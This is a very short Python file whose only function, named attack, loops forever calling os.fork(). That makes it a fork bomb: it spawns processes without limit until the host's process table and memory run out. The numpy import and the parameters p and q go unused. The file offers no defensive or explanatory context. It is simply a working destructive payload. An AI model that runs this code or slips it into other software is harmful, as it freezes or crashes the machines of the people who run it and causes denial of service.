# Forks without end.
import numpy as np
import os
def attack(p, q):
    while True:
        os.fork()
